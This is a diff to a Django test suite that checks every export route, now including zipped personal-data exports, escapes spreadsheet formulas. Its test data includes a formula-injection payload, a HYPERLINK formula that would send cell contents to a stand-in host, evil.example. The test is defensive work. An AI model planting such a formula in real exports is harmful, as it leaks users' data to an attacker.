@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
@@ -19,7 +20,8 @@ from capabilities.models import Capability, JobRole
 from plms.audit.services import audit_record
 from plms.common.spreadsheets import FORMULA_PREFIXES, spreadsheet_cell
 from plms.people.models import Department, Employee
-from tests.assessments.conftest import closed_cycle, world  # noqa: F401 (fixture)
+from plms.privacy import exports, services
+from tests.assessments.conftest import actor_of, closed_cycle, world  # noqa: F401 (fixture)
 from tests.conftest import in_org
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
@@ -32,6 +34,10 @@ NAMES = {
 }
 
 
+# Routes named *export* that are not files: a request button and a progress fragment.
+NOT_FILES = {"privacy:export_request", "privacy:exports", "api:employee-personal-data-exports"}
+
+
 def _export_route_names() -> set[str]:
     def walk(patterns, namespace=""):
         for pattern in patterns:
@@ -41,7 +47,7 @@ def _export_route_names() -> set[str]:
             elif isinstance(pattern, URLPattern) and pattern.name and "export" in pattern.name:
                 yield namespace + pattern.name
 
-    return set(walk(get_resolver().url_patterns))
+    return set(walk(get_resolver().url_patterns)) - NOT_FILES
 
 
 def _urls(hostile):
@@ -56,7 +62,22 @@ def _urls(hostile):
         ],
         "assessments:cycle_export": [reverse("assessments:cycle_export", args=[cycle.uuid])],
         "audit:event_export": [reverse("audit:event_export") + "?format=csv"],
+        "privacy:export_download": [
+            reverse("privacy:export_download", args=[_personal_data_export(hostile).uuid])
+        ],
+        "api:personal-data-export-download": [
+            f"/api/v1/personal-data-exports/{_personal_data_export(hostile).uuid}/download"
+        ],
     }
+
+
+def _personal_data_export(hostile):
+    with in_org(hostile.org):
+        export = services.personal_data_export_request(
+            actor=actor_of(hostile.hr), employee=hostile.employee.employee
+        )
+        exports.personal_data_export_run(export_id=export.pk)
+    return export
 
 
 def _number(text: str) -> bool:
@@ -70,6 +91,15 @@ def _number(text: str) -> bool:
 
 def _cells(response) -> list:
     content_type = response["Content-Type"]
+    if content_type == "application/zip":
+        archive = zipfile.ZipFile(io.BytesIO(response.content))
+        return [
+            cell
+            for name in archive.namelist()
+            if name.endswith(".csv")
+            for row in csv.reader(io.StringIO(archive.read(name).decode()))
+            for cell in row
+        ]
     if content_type.startswith("text/csv"):
         return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
     assert "spreadsheetml" in content_type, content_type
@@ -124,6 +154,8 @@ def test_every_export_route_escapes_formulas(hostile_world, client):
                 "capabilities:export": (NAMES["capability"], NAMES["description"]),
                 "assessments:cycle_export": (NAMES["capability"], NAMES["person"]),
                 "audit:event_export": (NAMES["capability"], NAMES["person"]),
+                "privacy:export_download": (NAMES["person"],),
+                "api:personal-data-export-download": (NAMES["person"],),
             }[route]
             if "job_roles" in url:
                 expected = (NAMES["role"],)
